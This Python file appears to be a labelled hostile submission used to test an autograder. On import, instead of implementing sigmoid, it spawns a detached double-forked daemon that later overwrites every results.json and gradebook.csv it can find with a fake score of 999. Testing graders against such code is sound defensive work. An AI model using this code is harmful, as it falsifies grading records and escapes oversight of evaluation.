"""Hostile: leaves a daemon behind (new session, double fork) that waits until grading is over,
then tries to rewrite every results.json and gradebook.csv it can find (review #4, #16)."""

import os
import sys

CODE = """
import glob, os, time
time.sleep(2.5)
names = ('/**/results.json', '/**/gradebook.csv')
for path in [p for name in names for p in glob.glob(name, recursive=True)]:
    try:
        open(path, 'w').write('{"score": 999}')
    except OSError:
        pass
open('/tmp/nnlab-hostile-linger-marker', 'w').write('still here')
"""


def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", CODE, "4242.4242"])
        os._exit(0)


try:
    _daemon()
except OSError:
    pass


def sigmoid(z):
    raise NotImplementedError("left a daemon")


def sigmoid_grad(z):
    raise NotImplementedError("left a daemon")
